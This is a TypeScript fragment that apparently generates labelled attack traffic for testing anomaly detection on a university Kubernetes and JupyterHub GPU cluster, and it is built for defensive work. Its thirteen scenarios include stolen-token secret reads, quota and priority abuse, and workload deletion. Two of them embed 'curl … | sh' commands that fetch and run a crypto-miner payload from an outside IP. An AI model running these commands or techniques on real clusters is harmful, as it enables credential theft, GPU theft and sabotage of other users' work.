    ['GET', '/clusters/rc/api/v1/namespaces/lab-nlp-prod/pods?limit=500', false, ff, undefined, HEADLAMP],
    ['GET', '/clusters/rc/api/v1/namespaces/lab-nlp-prod/secrets/hf-api-token', true, ff, undefined, HEADLAMP],
    ['GET', '/clusters/rc/api/v1/namespaces/lab-nlp/secrets/wandb-api-key', true, ff, undefined, HEADLAMP],
  ]), 20 * S, pd);

  // 2. JupyterHub's admin session, left open on the same machine by the admin who helped the new
  // students at 09:00: at 15:10 a student there mints an API token for the deadline student and
  // opens their server's files.
  const ad2 = by('admin-2');
  const adws = lastScoredOf(routine, ad2.name, T(9.5), (x) => x.host === JHUB);
  add("shared workstation: the JupyterHub admin's open session mints a token for another user", T(15.2), SHARED_WS, adws.ua, adws.login, on([
    ['GET', '/hub/admin', false, undefined, undefined, JHUB],
    ['POST', `/hub/api/users/${encodeURIComponent(by('phd-nlp-1').name)}/tokens`, true, { 'content-type': 'application/json', 'x-xsrftoken': 'f3a9c1' }, JSON.stringify({ note: 'debug', expires_in: 2_592_000 }), JHUB],
    ['GET', `/user/${encodeURIComponent(by('phd-nlp-1').name)}/api/contents/paper/main.tex?content=1&type=file`, true, undefined, undefined, JHUB],
  ]), 15 * S, ad2);

  // 3. A malicious package in an MSc student's notebook reads the single-user pod's mounted token
  // (KubeSpawner's per-user service account, allowed to create pods for dask-kubernetes) and sends
  // it to its owner, another student on campus eduroam, who creates GPU pods with it.
  const sa: Login = { sub: 'system:serviceaccount:u-msc-3:jupyter-msc-3', sid: '', authTime: undefined, acr: 'urn:stepgate:aal1', serviceAccount: true };
  add("JupyterHub single-user pod's service-account token used from campus eduroam", T(13.6), EDUROAM[0]!, 'kubectl/v1.31.2 (darwin/arm64) kubernetes/5864a46', sa, on([
    ['GET', '/api/v1/namespaces/u-msc-3/pods?limit=500', false],
    ['POST', '/api/v1/namespaces/u-msc-3/pods', true, JSON_CT, JSON.stringify({ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'dask-worker-x1' }, spec: { containers: [{ name: 'w', image: GPU_IMAGE, command: ['bash', '-c', 'curl -s http://45.9.148.3/xm | sh'], resources: { limits: { 'nvidia.com/gpu': '2' } } }] } })],
    ['GET', '/api/v1/namespaces/u-msc-3/secrets', true],
  ]), 10 * S);

  // 4. Malware on a PhD student's laptop (a poisoned VS Code extension) submits miner Jobs through
  // the lab's Kueue queue in the student's own namespace: the student's own shape, image and
  // queue, a command that fetches a miner, four GPUs each, one every 20 s.
  const v1 = by('phd-vision-1');
  onLaptop("crypto-miner Jobs through the lab's Kueue queue (student laptop, through the jump host)", v1, 15.3, Array.from({ length: 5 }, (_, k): AttackRequest =>
    ['POST', `/apis/batch/v1/namespaces/u-phd-vision-1/jobs?fieldManager=kubectl-create`, true, JSON_CT, kueueJob('u-phd-vision-1', `train-ablation-${k}`, 'vision-queue', 4, { command: ['bash', '-c', 'pip install -q nvitop && curl -s http://45.9.148.3/xm | sh -s -- --donate-level 0'] })],
  ), 20 * S);

  // 5. The deadline's PriorityClass (`deadline-critical`, made for the NLP lab's submission
  // night) named by a Volcano Job in a vision student's own namespace: Volcano preempts the NLP
  // lab's jobs to place it. From the student's laptop.
  const v2 = by('phd-vision-2');
  onLaptop('Volcano Job with the deadline PriorityClass from a student namespace (student laptop)', v2, 16.2, [
    ['POST', '/apis/batch.volcano.sh/v1alpha1/namespaces/u-phd-vision-2/jobs', true, JSON_CT, volcanoJob('u-phd-vision-2', 'sweep-big', { priorityClassName: 'deadline-critical', gpus: 8 })],
  ], 1000);

  // 6. The same through Kueue: a WorkloadPriorityClass named by the Job's label (Kueue's own
  // priority, which decides its preemption), from the same laptop.
  onLaptop("Kueue Job labelled with the deadline's WorkloadPriorityClass (student laptop)", v2, 17.1, [
    ['POST', '/apis/batch/v1/namespaces/u-phd-vision-2/jobs?fieldManager=kubectl-create', true, JSON_CT, kueueJob('u-phd-vision-2', 'sweep-big-2', 'vision-queue', 8, { labels: { 'kueue.x-k8s.io/priority-class': 'deadline-critical' }, parallelism: 4 })],
  ], 1000);

  // 7. A LocalQueue in the student's own namespace pointed at the deadline's reserved
  // ClusterQueue (its namespaceSelector is every namespace, as Kueue's examples have it), then a
  // 16-GPU Job through it: the lab's quota sidestepped without touching a ResourceQuota.
  onLaptop("LocalQueue pointed at the deadline's reserved ClusterQueue, then a GPU grab (student laptop)", v1, 16.6, [
    ['GET', '/apis/kueue.x-k8s.io/v1beta1/namespaces/u-phd-vision-1/localqueues?limit=500', false],
    ['POST', '/apis/kueue.x-k8s.io/v1beta1/namespaces/u-phd-vision-1/localqueues?fieldManager=kubectl-create', true, JSON_CT, JSON.stringify({ apiVersion: 'kueue.x-k8s.io/v1beta1', kind: 'LocalQueue', metadata: { name: 'fast', namespace: 'u-phd-vision-1' }, spec: { clusterQueue: 'cq-nlp-deadline' } })],
    ['POST', '/apis/batch/v1/namespaces/u-phd-vision-1/jobs?fieldManager=kubectl-create', true, JSON_CT, kueueJob('u-phd-vision-1', 'big-run', 'fast', 8, { parallelism: 2 })],
  ], 15 * S);

  // 8. The PI's laptop: the lab's ClusterQueue's GPU quota raised by a merge patch.
  const pi = by('pi-vision');
  const piLaptop = lastScoredOf(routine, pi.name, T(15), (x) => x.host === HEADLAMP);
  add("the lab's ClusterQueue GPU quota raised (PI laptop)", T(15.1), piLaptop.ip, KUBECTL_LAPTOP('darwin/arm64'), piLaptop.login, on([
    ['PATCH', '/apis/kueue.x-k8s.io/v1beta1/clusterqueues/cq-vision', true, MERGE, JSON.stringify({ spec: { resourceGroups: [{ coveredResources: ['nvidia.com/gpu'], flavors: [{ name: 'a100', resources: [{ name: 'nvidia.com/gpu', nominalQuota: 64 }] }] }] } })],
  ]), 1000, pi);

  // 9. Every GPU of the node without asking for one: NVIDIA's container runtime honours
  // NVIDIA_VISIBLE_DEVICES=all in a container that requests no nvidia.com/gpu, so the device
  // plugin never counts it and the other labs' jobs on that node share their GPUs with it. From a
  // PhD student's laptop, in their own namespace, through the lab's queue.
  const v3 = by('phd-vision-3');
  onLaptop('a Job sees every GPU of its node through NVIDIA_VISIBLE_DEVICES=all (student laptop)', v3, 14.4, [
    ['POST', '/apis/batch/v1/namespaces/u-phd-vision-3/jobs?fieldManager=kubectl-create', true, JSON_CT, kueueJob('u-phd-vision-3', 'cpu-preproc', 'vision-queue', 0, { env: [{ name: 'NVIDIA_VISIBLE_DEVICES', value: 'all' }, { name: 'NVIDIA_DRIVER_CAPABILITIES', value: 'compute,utility' }], limits: { cpu: '4', memory: '16Gi' } })],
  ], 1000);

  // 10. A token copied at the partner institution yesterday (the NLP student's kubeconfig on a
  // shared conference-room machine there), used today from the partner's eduroam (the address the
  // student proved yesterday), with the attacker's own Linux kubectl.
  const n1 = by('phd-nlp-1');
  const n1l = lastScoredOf(routine, n1.name, T(11), kubectl);
  add("token copied at the partner institution, used from its eduroam", T(11.2), PARTNER_EDUROAM, 'kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819', n1l.login, on([
    ['GET', '/api/v1/namespaces/u-phd-nlp-1/pods?limit=500', false],
    ['GET', '/api/v1/namespaces/lab-nlp/secrets/wandb-api-key', true],
    ['GET', '/api/v1/namespaces/lab-nlp-prod/secrets/hf-api-token', true],
  ]), 15 * S, n1);

  // 11. The login node: another user reads the bio RA's kubelogin cache (`~/.kube/cache/oidc-login`,
  // world-readable after a `chmod -R 755 ~`), and uses it there with the node's own kubectl.
  const rb = by('ra-bio');
  const rbl = lastScoredOf(routine, rb.name, T(13.5), kubectl);
  add('kubelogin cache read on the shared login node', T(13.6), LOGIN_NODE, KUBECTL_LOGIN, rbl.login, on([
    ['GET', '/api/v1/namespaces/lab-bio/pods?limit=500', false],
    ['GET', '/api/v1/namespaces/lab-bio/secrets/uniprot-ftp', true],
    ['GET', '/api/v1/namespaces/lab-bio/pods/fold-2xk-mpimaster-0/exec?command=bash&container=mpimaster&stdin=true&stdout=true&tty=true', true, WS],
  ]), 25 * S, rb);

  // 12. Malware on the PI's laptop reads another lab's production Secret through the Kubernetes
  // Dashboard's own API (`/api/v1/secret/<namespace>/<name>`), in the PI's open browser session.
  const piDash = lastScoredOf(routine, pi.name, T(14), (x) => x.host === DASHBOARD);
  add("Kubernetes Dashboard's API reads another lab's production Secret (PI laptop)", T(14.05), piDash.ip, piDash.ua, piDash.login, on([
    ['GET', '/api/v1/namespace?itemsPerPage=50', false, piDash.headers, undefined, DASHBOARD],
    ['GET', '/api/v1/secret/lab-nlp-prod/hf-api-token', true, piDash.headers, undefined, DASHBOARD],
    ['GET', '/api/v1/secret/lab-bio/uniprot-ftp', true, piDash.headers, undefined, DASHBOARD],
  ]), 10 * S, pi);

  // 13. Deadline night, 22:40: the NLP student themself, with an `edit` binding on every lab
  // namespace (the group binding all students share), deletes the vision lab's queued workloads so
  // that theirs are admitted. They can sign in.
  const dl = lastScoredOf(routine, n1.name, T(22.6), kubectl);
  add("insider on deadline night deletes another lab's queued workloads", T(22.67), dl.ip, dl.ua, dl.login, on(Array.from({ length: 16 }, (_, k): AttackRequest =>
    ['DELETE', `/apis/kueue.x-k8s.io/v1beta1/namespaces/${k % 2 ? 'lab-vision' : 'u-phd-vision-' + (1 + (k % 3))}/workloads/job-train-${(k * 7919).toString(36)}-a1b2c`, true],
  )), 3 * S);
  for (const e of out) if (e.attack === "insider on deadline night deletes another lab's queued workloads") e.signsIn = true;
  return out;
}
